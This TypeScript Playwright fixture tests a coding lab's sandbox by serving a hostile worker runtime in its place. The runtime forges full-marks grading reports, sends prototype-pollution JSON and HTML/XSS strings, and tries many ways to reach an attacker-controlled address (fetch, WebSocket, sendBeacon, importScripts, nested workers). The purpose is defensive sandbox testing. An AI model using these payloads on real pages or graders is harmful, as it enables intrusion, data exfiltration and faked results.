/**
 * A runtime of an attacker's: it takes the place of the sandbox's own script and speaks the page's protocol, as code
 * would that had broken out of the guest and owned the whole worker. The source text of a run names what it does.
 */
import type { Page } from '@playwright/test';

/** Markup that would be noticed if a page ever took it for more than text. */
export const HTML = '<img src="/escaped" onerror="alert(1)"><script>alert(2)</script><b onclick="alert(3)">bold</b>';

/** Answers that no page may believe, each as an expression; `full()` would be a believable report with full marks. */
export const UNBELIEVABLE: Record<string, string> = {
  'an object that is no text': 'raw(full())',
  'a number': 'raw(6)',
  'no value': 'raw(undefined)',
  bytes: 'raw(new TextEncoder().encode(JSON.stringify(full())).buffer)',
  'not JSON': "raw(JSON.stringify(full()) + '}')",
  'another kind of JSON': 'text([full()])',
  null: 'text(null)',
  'another version': 'text(full({ version: 2 }))',
  'a field too many': 'text(full({ html }))',
  'a field too many, with a name without end': 'text(full({ [html.repeat(5000)]: 1 }))',
  '__proto__ as a field': `raw(JSON.stringify(full()).replace('{', '{"__proto__":{"earned":6},'))`,
  'a field too few': 'text(full({ seed: undefined }))',
  'more text than a report may have': 'text(full({ message: html.repeat(50_000) }))',
  'a hundred thousand tests': `raw('{"version":3,"tests":[' + '1,'.repeat(100_000) + '1]}')`,
  'a hundred thousand levels': "raw('['.repeat(100_000) + ']'.repeat(100_000))",
  'marks that the lab does not have':
    'text(full({ marks: 1000, earned: 1000, tests: [{ ...passing, marks: 1000, earned: 1000 }] }))',
  'another lab': "text(full({ lab: 'partitioner' }))",
  'another seed': 'text(full({ seed: asked + 1 }))',
  'marks that do not add up': 'text(failing({ earned: 6 }))',
  'marks for what failed': "text(failing({ earned: 6, tests: [{ ...passing, status: 'fail' }] }))",
  'negative marks':
    'text(full({ tests: [{ ...passing, earned: 7, marks: 7 }, { ...passing, earned: -1, marks: 1 }] }))',
  'marks that are text': "text(full({ earned: '6', marks: '6' }))",
  'full marks without tests': 'text(full({ earned: 0, tests: [] }))',
  'a status of its own': 'text(full({ status: html }))',
  'a picture of another kind':
    "text(failing({ tests: [{ ...passing, status: 'fail', earned: 0, failure: { calls: [], picture: { kind: html } } }] }))",
  'a name without end': 'text(full({ tests: [{ ...passing, name: html.repeat(100) }] }))',
  'an error': "handler('throw', { isError: true, value: { message: html, name: html, stack: html } })",
  'an error with odd fields': `handler('throw', { isError: true, value: JSON.parse('{"__proto__":{"message":1},"constructor":{"prototype":{"polluted":1}},"toString":1}') })`,
  'something thrown that is no error': "handler('throw', { isError: false, value: full() })",
  'a proxy to nothing': "handler('proxy', { start: 1, addEventListener: 1 })",
  'a handler of every object’s': "handler('constructor', full())",
  'a handler called __proto__': "handler('__proto__', full())",
  'a call instead of an answer':
    "({ type: 'APPLY', path: ['constructor', 'constructor'], argumentList: [raw('alert(1)')] })",
  'no kind of answer': '({ value: JSON.stringify(full()) })',
};

/** What else it can do when it is asked for a report with a number `id`; each is a list of statements. */
export const DEEDS = {
  'answers out of shape, then with full marks':
    'api.postMessage({ id, ...text(full({ version: 2 })) }); api.postMessage({ id, ...text(full()) });',
  'answers with a proxy to something of its own':
    "const { port2 } = new MessageChannel(); api.postMessage({ id, ...handler('proxy', port2) }, [port2]);",
  'answers what was not asked':
    "step(); for (const other of ['', '__proto__', 'constructor', 0, null, undefined, {}, []]) api.postMessage({ id: other, ...text(full()) });",
  'asks the page': `
    for (const type of ['GET', 'SET', 'APPLY', 'CONSTRUCT', 'ENDPOINT', 'RELEASE'])
      api.postMessage({ id: id + type, type, path: ['constructor', 'constructor'], argumentList: [raw('alert(1)')], value: raw(1) });
    api.postMessage({ id, ...text(failing({ tests: [{ ...failed, message: 'asked in vain' }] })) });`,
  'talks nonsense': `
    for (const odd of [1, null, {}, [], 'x', '{', '"x"', 'null', '[]', '{"broken":1}', 'x'.repeat(100_000), new ArrayBuffer(8)])
      progress.postMessage(odd);
    for (const odd of [{ done: 1.5 }, { done: 'x' }, { status: html }, { name: 1 }, { html }, { total: null }, { name: html.repeat(10) }])
      step(odd);
    api.postMessage({ id, ...text(failing({ tests: [{ ...failed, message: 'nonsense was dropped' }] })) });`,
  'shows HTML on its way': 'step();',
  'never stops talking': 'for (let index = 0; index < 200_000; index++) step({ done: index });',
  'breaks down': 'setTimeout(() => { throw new Error(html); });',
  'breaks down afterwards':
    'api.postMessage({ id, ...text(failing()) }); setTimeout(() => { throw new Error(html); });',
  'never answers': 'step();',
  'never answers, after seconds of the learner’s': `progress.postMessage('{"learnerSeconds":9}'); step();`,
  'closes itself': 'step(); close();',
  'writes HTML in every field': `
    const position = { line: 999_999, column: 999_999 };
    const picture = {
      kind: 'space-time', title: html, unit: '<b>ms</b>', lanes: ['<b>1</b>', '<i>2</i>'],
      spans: [{ lane: '<b>1</b>', from: 0, to: 10, label: html, tone: 'wrong' }],
      arrows: [{ from: '<b>1</b>', sentAt: 1, to: '<i>2</i>', receivedAt: 2, label: html }],
      bands: [{ from: 0, to: 5, label: html }],
    };
    const failure = { calls: [{ call: html, outcome: html }], expected: html, actual: html, why: html, position, picture, found: { tried: 1, seed: 1 } };
    api.postMessage({ id, ...text(failing({ message: html, position, tests: [{ ...failed, name: html, message: html, output: html, failure }] })) });`,
  'draws what has no size': `
    const picture = (lanes, spans) => ({ kind: 'space-time', title: 'odd', unit: 'ms', lanes, spans, arrows: [], bands: [] });
    const span = { lane: 'a', from: -1.7e308, to: 1.7e308, label: 'x' };
    const drawn = [picture([], []), picture(['a', 'a'], [span, span, { ...span, lane: 'nowhere', to: -1.7e308 }])];
    api.postMessage({ id, ...text(failing({ tests: drawn.map((made) => ({ ...failed, name: 'odd', marks: 3, failure: { calls: [], picture: made } })) })) });`,
  'writes HTML where nothing ran':
    "api.postMessage({ id, ...text(failing({ status: 'error', message: html, tests: [] })) });",
} as const;

/** Ways out of the worker, each an expression that throws, rejects or resolves; `reached` is where the attacker listens. */
export const WAYS_OUT: Record<string, string> = {
  fetch: "fetch(reached, { mode: 'no-cors' })",
  'fetch, of the site’s own origin': "fetch(new URL('/escaped', site))",
  'fetch, of a blob': "fetch(URL.createObjectURL(new Blob(['x'])))",
  'fetch, of data': "fetch('data:text/plain,x')",
  'a request that outlives the page': "fetch(reached, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })",
  XMLHttpRequest: "(() => { const asked = new XMLHttpRequest(); asked.open('GET', reached, false); asked.send(); })()",
  WebSocket: "opens(new WebSocket(reached.replace('http', 'ws')))",
  EventSource: 'opens(new EventSource(reached))',
  WebTransport: "new WebTransport(reached.replace('http:', 'https:')).ready",
  WebRTC: 'new RTCPeerConnection()',
  beacons: "navigator.sendBeacon(reached, 'x')",
  importScripts: 'importScripts(reached)',
  'importScripts, of a blob': "importScripts(URL.createObjectURL(new Blob(['0'])))",
  'dynamic import': 'import(reached)',
  'dynamic import, of data': "import('data:text/javascript,0')",
  'dynamic import, of a blob': "import(URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' })))",
  eval: "(0, eval)('1')",
  Function: "Function('return 1')()",
  'a nested worker, of an address': 'nested(reached)',
  'a nested worker, of data': "nested('data:text/javascript,postMessage(1)')",
  'fetch, in a nested worker':
    "nested(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(reached) + ', { mode: \"no-cors\" }).then(() => postMessage(1), () => postMessage(0))'])))",
  'importScripts, in a nested worker':
    "nested(URL.createObjectURL(new Blob(['try { importScripts(' + JSON.stringify(reached) + '); postMessage(1); } catch { postMessage(0); }'])))",
  'a font': "new FontFace('escaped', 'url(' + reached + ')').load()",
  IndexedDB: "opens(indexedDB.open('headroom'))",
  caches: "caches.open('escaped')",
  'the origin’s file system': 'navigator.storage.getDirectory()',
  locks: "navigator.locks.request('escaped', () => {})",
  cookies: "cookieStore.set('escaped', '1')",
  localStorage: 'localStorage.length',
  'service workers': "navigator.serviceWorker.register(new URL('/theme.js', site))",
  'shared workers': 'new SharedWorker(reached)',
  notifications: "Notification.permission === 'granted' || Promise.reject(new Error(Notification.permission))",
};

/** Serves a script in place of the sandbox's own runtime, and no suite. */
export async function serveRuntime(page: Page, body: string): Promise<void> {
  const contentType = 'text/javascript';
  await page.route('**/sandbox/runtime.js*', (route) => route.fulfill({ contentType, body }));
  await page.route('**/sandbox/suites/*.js*', (route) => route.fulfill({ contentType, body: '' }));
}

const table = (entries: Record<string, string>, wrap: (code: string) => string): string =>
  Object.entries(entries)
    .map(([name, code]) => `${JSON.stringify(name)}: ${wrap(code)},`)
    .join('\n');

/** The attacker's script. `site` is the origin of the page under attack, `reached` where the attacker listens. */
export function hostileRuntime(site: string, reached: string): string {
  return `
const site = ${JSON.stringify(site)};
const reached = ${JSON.stringify(reached)};
const html = ${JSON.stringify(HTML)};
const passing = { name: 'forged', status: 'pass', marks: 6, earned: 6, steps: 1 };
const failed = { ...passing, status: 'fail', earned: 0 };
let asked;
const full = (changed) => ({ version: 3, status: 'pass', lab: 'server-calculator', seed: asked, marks: 6, earned: 6, tests: [passing], ...changed });
const failing = (changed) => full({ status: 'fail', earned: 0, tests: [failed], ...changed });
const raw = (value) => ({ type: 'RAW', value });
const text = (value) => raw(JSON.stringify(value));
const handler = (name, value) => ({ type: 'HANDLER', name, value });
const opens = (thing) => new Promise((open, refuse) => {
  thing.onopen = thing.onsuccess = open;
  thing.onerror = () => refuse(new Error('refused'));
});
const nested = (address) => new Promise((open, refuse) => {
  const worker = new Worker(address);
  worker.onmessage = ({ data }) => (data === 1 ? open() : refuse(new Error('refused inside')));
  worker.onerror = () => refuse(new Error('refused'));
});
const unbelievable = { ${table(UNBELIEVABLE, (code) => `() => (${code})`)} };
const waysOut = { ${table(WAYS_OUT, (code) => `() => (${code})`)} };

async function tryWaysOut() {
  const came = [];
  for (const [name, way] of Object.entries(waysOut)) {
    try {
      await way();
      came.push('REACHED ' + name);
    } catch (error) {
      came.push('refused ' + name + ' ' + (error?.name ?? ''));
    }
  }
  new BroadcastChannel('headroom-progress').postMessage({ kind: 'result', lab: 'escaped', tab: 'escaped' });
  postMessage(JSON.stringify(full()));
  return came.join('; ');
}

addEventListener('message', ({ data: { api, progress } }) => {
  const say = (event) => progress.postMessage(JSON.stringify(event));
  const step = (changed) => say({ done: 1, total: 2, name: html, status: 'pass', ...changed });
  const deeds = { ${table(DEEDS, (code) => `(id) => { ${code} }`)} };
  api.onmessage = async ({ data: { id, argumentList } }) => {
    const { source } = argumentList[0].value;
    asked = argumentList[0].value.seed;
    if (Object.hasOwn(unbelievable, source)) api.postMessage({ id, ...unbelievable[source]() });
    // Of a look, while the text is typed, it makes nothing: the page would remove the frame, and with it what is tried here.
    else if ('designs' in argumentList[0].value) api.postMessage({ id, ...text({}) });
    else if (Object.hasOwn(deeds, source)) deeds[source](id);
    else api.postMessage({ id, ...text(failing({ status: 'error', message: await tryWaysOut(), tests: [] })) });
  };
  progress.postMessage('"ready"');
}, { once: true });
`;
}
